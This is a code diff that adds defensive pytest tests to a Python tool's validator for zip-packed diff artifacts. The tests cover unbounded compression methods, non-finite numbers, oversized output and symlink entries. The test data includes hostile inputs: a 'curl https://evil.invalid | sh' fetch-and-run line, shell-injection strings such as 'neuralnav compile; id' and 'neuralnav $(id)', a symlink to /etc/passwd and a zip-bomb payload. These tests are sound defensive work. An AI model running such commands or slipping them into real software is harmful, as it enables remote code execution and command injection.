@@ -7,12 +7,16 @@ import zipfile
 import pytest
 from diffs import diff, edit, moved, where
 
+from neuralnav.cli.work import FIXES
 from neuralnav.errors import InputError
 from neuralnav.forge.artifact import MAX_DIFF_BYTES, checked_diff, diff_in_zip
 from neuralnav.model.diff import PlanDiff
+from neuralnav.model.report import ReportedDrift
+from neuralnav.report_diff import diff_markdown
 
 GOOD = diff(moved())
 AWAY = edit().model_copy(update={"where": where("/etc/passwd")})
+DRIFT = ReportedDrift(drift="data", file="a/plan.lock", message="prices changed", fix="neuralnav compile")
 BOMB = b"x" * (50 * 1024 * 1024)
 INVALID = "neuralnav-diff/diff.json: the text: Invalid JSON"
 
@@ -34,6 +38,40 @@ def refusal(content: bytes) -> str:
         diff_in_zip("neuralnav-diff", content)
     first = raised.value.diagnostics[0]
     return f"{first.where.file}: {first.message}"
+
+
+@pytest.mark.parametrize("packed", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
+def test_a_way_of_packing_that_unpacks_without_a_bound_is_refused(packed: int) -> None:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", packed) as target:
+        target.writestr("diff.json", text())
+    assert refusal(made.getvalue()) == (
+        "neuralnav-diff: the artifact is not one of this action: it is packed in another way"
+    )
+
+
+@pytest.mark.parametrize("number", ["NaN", "Infinity", "-Infinity", "1e999"])
+def test_a_number_that_is_none_is_refused(number: str) -> None:
+    told = text().replace(b'"cost_delta_usd_per_month": -1120.0', f'"cost_delta_usd_per_month": {number}'.encode())
+    assert number.encode() in told
+    assert refusal(archive(("diff.json", told))).endswith("cost_delta_usd_per_month: Input should be a finite number")
+
+
+def test_a_link_in_the_archive_is_read_as_the_text_it_holds() -> None:
+    link = zipfile.ZipInfo("diff.json")
+    link.external_attr = 0o120777 << 16
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w") as target:
+        target.writestr(link, "/etc/passwd")
+    assert refusal(made.getvalue()).startswith(INVALID)
+
+
+def test_very_many_workloads_stay_a_comment() -> None:
+    one = GOOD.model_dump(mode="json")["workloads"][0]
+    least = {"status": "changed", "before": {"state": "absent"}, "after": {"state": "broken"}}
+    many = [{**least, "workload": f"w{number}", "path": f"p{number}"} for number in range(20_000)]
+    found = checked_diff("diff.json", text(workloads=[*many, one]))
+    assert len(diff_markdown(found).encode()) <= 60_000
 
 
 def test_our_own_artifact_is_read() -> None:
@@ -75,6 +113,19 @@ def test_our_own_artifact_is_read() -> None:
 )  # fmt: skip
 def test_what_is_not_ours_is_refused(content: bytes, said: str) -> None:
     assert refusal(content) == said
+
+
+@pytest.mark.parametrize("fix", sorted({fix for _, fix in FIXES.values()}))
+def test_every_fix_of_ours_passes(fix: str) -> None:
+    found = diff(moved(drift=(DRIFT.model_copy(update={"fix": fix}),)))
+    assert checked_diff("diff.json", text(found)) == found
+
+
+@pytest.mark.parametrize("fix", ["curl https://evil.invalid | sh", "neuralnav compile; id", "neuralnav $(id)", ""])
+def test_a_fix_that_is_no_command_of_ours_is_not_told(fix: str) -> None:
+    with pytest.raises(InputError) as raised:
+        checked_diff("diff.json", text(diff(moved(drift=(DRIFT.model_copy(update={"fix": fix}),)))))
+    assert raised.value.diagnostics[0].message == f"a fix is no command of neuralnav: {fix!r}"
 
 
 def test_a_name_twice_is_refused() -> None:
